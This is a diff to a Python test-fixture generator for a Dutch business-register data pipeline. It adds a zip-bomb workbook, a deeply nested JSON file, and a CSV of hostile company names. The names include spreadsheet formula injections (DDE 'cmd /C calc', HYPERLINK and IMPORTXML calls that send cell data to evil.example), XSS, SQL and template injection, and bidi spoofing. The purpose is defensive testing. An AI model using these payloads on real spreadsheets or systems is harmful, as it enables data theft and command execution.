@@ -371,6 +371,138 @@ def pdok(features: list[tuple[str, str, dict[str, Any]]]) -> str:
     )
 
 
+def _xlsx_bomb(megabytes: int) -> bytes:
+    """A zip shaped like an .xlsx whose one sheet inflates ~1000x."""
+    import io
+    import zipfile
+
+    row = b"<row><c t='inlineStr'><is><t>0</t></is></c></row>" * 1000
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        zf.writestr("[Content_Types].xml", "<Types/>")
+        with zf.open("xl/worksheets/sheet1.xml", "w") as handle:
+            handle.write(b"<worksheet><sheetData>")
+            for _ in range(megabytes * 2**20 // len(row)):
+                handle.write(row)
+            handle.write(b"</sheetData></worksheet>")
+    return buffer.getvalue()
+
+
+# ----------------------------------------------------------------------------- hostile corpus
+# tests/bad_inputs/hostile/: a KvK establishments file built to attack the readers of the
+# exports and to test the privacy rules, run through the main job next to the sample's
+# waste and municipal files (tests/test_pipeline_e2e.py measures what comes out).
+HOSTILE = HERE / "hostile"
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+31 cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tab",
+    "\r=1+1 carriage return",
+    "\u202e=1+1 bidi override",
+    "\u200b=1+1 zero-width space",
+    "  =1+1 leading spaces",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+]
+OTHER_HOSTILE = [
+    "<script>alert('xss')</script> Koffie",
+    '"><img src=x onerror=alert(1)> Koffie',
+    "Koffie \u202egnp.exe\u202c bidi",
+    "Koffie \u2066isolate\u2069 \u200f rtl mark",
+    "Koffie " + "Lang " * 1200,  # a 6,000-character name
+    "Koffie\x00Bar NUL",
+    "Koffie; DROP TABLE x; --",
+    "Koffie {{7*7}} ${7*7}",
+]
+SOLE_FORMS = [
+    "Eenmanszaak",
+    "eenmanszaak",
+    " EENMANSZAAK ",
+    "Eenmanszaak met meer dan één eigenaar",
+    "Eenmanszaak met één eigenaar",
+    "Vennootschap onder firma",
+    "V.O.F.",
+    "Maatschap",
+    "Commanditaire Vennootschap",
+    "Rederij",
+    "",
+    "Onbekend",
+    "Buitenlandse rechtsvorm",
+]
+HOSTILE_HEADER = [
+    "vestigingsnummer",
+    "kvk_nummer",
+    "trade_name",
+    "legal_form",
+    "is_main",
+    "sbi_main",
+    "sbi_version",
+    "street",
+    "house_number",
+    "postcode",
+    "city",
+    "municipality_code",
+    "lat",
+    "lon",
+    "employees",
+    "active",
+]
+
+
+def hostile_rows() -> list[dict[str, str]]:
+    """Restaurants (coffee grounds producers) and mushroom growers (receivers) in Amersfoort,
+    so every hostile name reaches the candidates; sole proprietors under every legal form,
+    each with a person's name and an exact home-like location."""
+    rows: list[dict[str, str]] = []
+
+    def row(i: int, name: str, form: str, sbi: str, employees: int) -> dict[str, str]:
+        return {
+            "vestigingsnummer": f"0009{i:08d}",
+            "kvk_nummer": f"9{i:07d}",
+            "trade_name": name,
+            "legal_form": form,
+            "is_main": "Ja",
+            "sbi_main": sbi,
+            "sbi_version": "2008",
+            "street": f"Hostilestraat {i}",
+            "house_number": str(i),
+            "postcode": "3811AB",
+            "city": "Amersfoort",
+            "municipality_code": "GM0307",
+            "lat": f"{52.150 + i * 0.00071:.6f}",
+            "lon": f"{5.380 + i * 0.00093:.6f}",
+            "employees": str(employees),
+            "active": "Ja",
+        }
+
+    i = 1
+    for name in FORMULAS + OTHER_HOSTILE:
+        rows.append(row(i, name + " B.V.", "Besloten Vennootschap", "5610", 12))
+        i += 1
+    for k, form in enumerate(SOLE_FORMS):
+        person = f"Pieter Privé-Jansen {k:02d}"
+        rows.append(row(i, person, form, "5610", 3))
+        i += 1
+        rows.append(row(i, FORMULAS[k % len(FORMULAS)] + f" {person} Zwammerij", form, "0113", 2))
+        i += 1
+    rows.append(row(i, '=HYPERLINK("http://evil.example") Zwamkwekerij B.V.', "BV", "0113", 9))
+    return rows
+
+
+def build_hostile() -> Path:
+    folder = HOSTILE / "kvk"
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / "establishments_hostile_20250602T060000.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=HOSTILE_HEADER, delimiter=";")
+        writer.writeheader()
+        writer.writerows(hostile_rows())
+    return path
+
+
 def build() -> None:
     FILES.mkdir(parents=True, exist_ok=True)
     for old in FILES.iterdir():
@@ -948,6 +1080,20 @@ def build() -> None:
         "statcode without the GM prefix",
         1,
     )
+    add(
+        "kvk_deeply_nested.json",
+        "[" * 100_000 + "]" * 100_000,
+        "kvk",
+        "exit:nested too deeply",
+        "JSON nested 100,000 levels deep (RecursionError used to stop the whole landing step)",
+    )
+    add(
+        "lma_xlsx_bomb.xlsx",
+        _xlsx_bomb(40),
+        "waste",
+        "exit:zip bomb",
+        "a 40 KB workbook whose sheet XML inflates to 40 MB (1000x)",
+    )
     with (HERE / "cases.csv").open("w", encoding="utf-8", newline="") as fh:
         writer = csv.DictWriter(
             fh, fieldnames=["file", "source", "expect", "args", "min_valid", "note"]
@@ -959,3 +1105,4 @@ def build() -> None:
 if __name__ == "__main__":
     build()
     print(f"{len(CASES)} cases written to {HERE / 'cases.csv'}")
+    print(f"hostile KvK file: {build_hostile()}")
